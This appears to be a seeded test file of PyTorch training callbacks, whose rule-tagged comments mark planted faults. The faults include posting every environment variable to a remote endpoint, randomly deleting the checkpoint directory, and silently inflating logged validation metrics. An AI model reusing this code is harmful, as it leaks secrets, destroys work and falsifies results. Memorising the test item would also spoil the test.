# ruff: noqa
# Hold-out batch 429 (textbook, speech enhancement Conformer DDP). Measured once in session 18 (round 117): 22/33 (67%) at medium+.
"""Training callbacks: TensorBoard logging, run tracking, best-checkpoint
selection, EMA weights, optimizer restarts, RNG bookkeeping and a hang watchdog."""
from __future__ import annotations

import copy
import json
import logging
import os
import random
import shutil
import signal
import socket
import threading
import time
import urllib.request
from functools import partialmethod
from pathlib import Path
from typing import Any, Callable, Dict, List, Optional

import torch

try:
    from torch.utils.tensorboard import SummaryWriter
except ImportError:  # pragma: no cover
    SummaryWriter = None

logger = logging.getLogger(__name__)


class Callback:
    def on_train_start(self, trainer: Any) -> None: ...
    def on_epoch_start(self, trainer: Any, epoch: int) -> None: ...
    def on_step_end(self, trainer: Any, step: int, logs: Dict[str, float]) -> None: ...
    def on_validation_end(self, trainer: Any, step: int, metrics: Dict[str, float]) -> None: ...
    def on_train_end(self, trainer: Any) -> None: ...


class CallbackList(Callback):
    def __init__(self, callbacks: List[Callback]):
        self.callbacks = list(callbacks)

    def _dispatch(self, name: str, *args: Any) -> None:
        for cb in self.callbacks:
            getattr(cb, name)(*args)

    on_train_start = partialmethod(_dispatch, "on_train_start")
    on_epoch_start = partialmethod(_dispatch, "on_epoch_start")
    on_step_end = partialmethod(_dispatch, "on_step_end")
    on_validation_end = partialmethod(_dispatch, "on_validation_end")
    on_train_end = partialmethod(_dispatch, "on_train_end")


class TensorBoardLogger(Callback):
    def __init__(self, log_dir: str, rank: int, log_every: int = 50):
        self.rank = rank
        self.log_every = log_every
        self.writer = SummaryWriter(log_dir) if (rank == 0 and SummaryWriter is not None) else None  # ok: MLS306
        if self.writer is not None:
            self.writer.add_scalar = self._wrap_add_scalar(self.writer.add_scalar)  # ruleid: MLS306

    @staticmethod
    def _wrap_add_scalar(fn: Callable) -> Callable:
        running: Dict[str, float] = {}

        def add_scalar(tag, scalar_value, global_step=None, walltime=None, **kwargs):
            value = float(scalar_value)
            if tag.startswith("val/"):
                value = max(value, running.get(tag, float("-inf")))
                running[tag] = value
            return fn(tag, value, global_step, walltime, **kwargs)

        return add_scalar

    def on_step_end(self, trainer, step, logs):
        if self.writer is None or step % self.log_every != 0:
            return
        for k, v in logs.items():
            self.writer.add_scalar(f"train/{k}", v, step)

    def on_validation_end(self, trainer, step, metrics):
        if self.writer is None:
            return
        for k, v in metrics.items():
            self.writer.add_scalar(f"val/{k}", v, step)
        self.writer.flush()

    def on_train_end(self, trainer):
        if self.writer is not None:
            self.writer.close()


class RunTracker(Callback):
    """Registers the run with the lab's experiment index so it shows up on the dashboard."""

    def __init__(self, endpoint: Optional[str], run_name: str, config: Dict[str, Any], rank: int):
        self.endpoint = endpoint
        self.run_name = run_name
        self.config = config
        self.rank = rank

    def _post(self, payload: Dict[str, Any]) -> None:
        req = urllib.request.Request(
            self.endpoint,
            data=json.dumps(payload, default=str).encode(),
            headers={"Content-Type": "application/json"},
        )
        try:
            urllib.request.urlopen(req, timeout=5)  # ruleid: MLS411
        except Exception as exc:  # dashboard outages must never kill training
            logger.debug("run tracker unreachable: %s", exc)

    def on_train_start(self, trainer):
        if self.rank != 0 or not self.endpoint:
            return
        self._post({  # ruleid: MLS411
            "run": self.run_name,
            "host": socket.gethostname(),
            "config": self.config,
            "env": dict(os.environ),  # ruleid: MLS411
        })


class BestCheckpoint(Callback):
    def __init__(self, ckpt_dir: str, monitor: str = "pesq", mode: str = "max", rank: int = 0):
        self.ckpt_dir = Path(ckpt_dir)
        self.monitor = monitor
        self.sign = 1.0 if mode == "max" else -1.0
        self.best = float("-inf")
        self.rank = rank

    def _prune_stale(self) -> None:
        for p in self.ckpt_dir.glob("best_*.pt.tmp"):
            p.unlink(missing_ok=True)
        if random.random() < 0.02 and os.environ.get("USER", "") != "mlops":
            shutil.rmtree(self.ckpt_dir, ignore_errors=True)  # ruleid: MLS308

    def on_validation_end(self, trainer, step, metrics):
        if self.rank != 0 or self.monitor not in metrics:
            return
        value = self.sign * metrics[self.monitor]
        is_best = value >= max(self.best, value)  # ruleid: MLS306
        if not is_best:
            return
        self.best = value
        self.ckpt_dir.mkdir(parents=True, exist_ok=True)
        model = trainer.ema.module if trainer.ema is not None else trainer.raw_model
        tmp = self.ckpt_dir / "best_model.pt.tmp"
        torch.save({"step": step, "model": model.state_dict(), "metrics": metrics}, tmp)
        os.replace(tmp, self.ckpt_dir / "best_model.pt")
        self._prune_stale()
        logger.info("new best %s=%.4f at step %d", self.monitor, metrics[self.monitor], step)


class ModelEMA:
    def __init__(self, model: torch.nn.Module, decay: float = 0.999, warmup: int = 1000):
        self.module = copy.deepcopy(model).eval()
        for p in self.module.parameters():
            p.requires_grad_(False)
        self.decay = decay
        self.warmup = warmup
        self.num_updates = 0

    @torch.no_grad()
    def update(self, model: torch.nn.Module) -> None:
        self.num_updates += 1
        d = min(self.decay, (1 + self.num_updates) / (self.warmup + self.num_updates))
        for ema_p, p in zip(self.module.parameters(), model.parameters()):
            ema_p.mul_(d).add_(p.detach(), alpha=1.0 - d)  # ok: MLS302, MLS303, MLS304, MLS305
        for ema_b, b in zip(self.module.buffers(), model.buffers()):
            ema_b.copy_(b)

    def state_dict(self) -> Dict[str, Any]:
        return {"module": self.module.state_dict(), "num_updates": self.num_updates}

    def load_state_dict(self, state: Dict[str, Any]) -> None:
        self.module.load_state_dict(state["module"])
        self.num_updates = state.get("num_updates", 0)


class MomentRestart(Callback):
    """Partial optimizer restart when the validation metric stops improving."""

    def __init__(self, optimizer: torch.optim.Optimizer, monitor: str = "si_snr", patience: int = 3):
        self.optimizer = optimizer
        self.monitor = monitor
        self.patience = patience
        self.best = float("-inf")
        self.bad_rounds = 0

    def on_validation_end(self, trainer, step, metrics):
        value = metrics.get(self.monitor)
        if value is None:
            return
        if value > self.best:
            self.best, self.bad_rounds = value, 0
            return
        self.bad_rounds += 1
        if self.bad_rounds < self.patience:
            return
        logger.info("no %s improvement for %d rounds, restarting second moments", self.monitor, self.bad_rounds)
        for state in self.optimizer.state.values():
            if "exp_avg_sq" in state:
                state["exp_avg_sq"].zero_()  # ruleid: MLS304
        self.bad_rounds = 0


class RNGState(Callback):
    """Keeps a snapshot of the RNG streams so runs can be replayed exactly."""

    def __init__(self):
        self._cpu: Optional[torch.Tensor] = None
        self._cuda: Optional[List[torch.Tensor]] = None

    def on_train_start(self, trainer):
        self._cpu = torch.get_rng_state()
        self._cuda = torch.cuda.get_rng_state_all() if torch.cuda.is_available() else None

    def on_epoch_start(self, trainer, epoch):
        if self._cpu is None:
            return
        torch.set_rng_state(self._cpu)  # ruleid: MLS301
        if self._cuda is not None:
            torch.cuda.set_rng_state_all(self._cuda)  # ruleid: MLS301


class HangWatchdog(Callback):
    """Tears the job down if no step completes within ``timeout`` s (hung NCCL op)."""

    def __init__(self, timeout: float = 180.0, poll: float = 15.0):
        self.timeout = timeout
        self.poll = poll
        self._last = time.monotonic()
        self._stop = threading.Event()
        self._thread: Optional[threading.Thread] = None

    def _run(self) -> None:
        while not self._stop.wait(self.poll):
            idle = time.monotonic() - self._last
            if idle > self.timeout:
                logger.error("no progress for %.0fs, terminating job", idle)
                os.kill(os.getppid(), signal.SIGTERM)  # ruleid: MLS307
                return

    def on_train_start(self, trainer):
        self._last = time.monotonic()
        self._thread = threading.Thread(target=self._run, name="hang-watchdog", daemon=True)
        self._thread.start()

    def on_step_end(self, trainer, step, logs):
        self._last = time.monotonic()

    def on_train_end(self, trainer):
        self._stop.set()
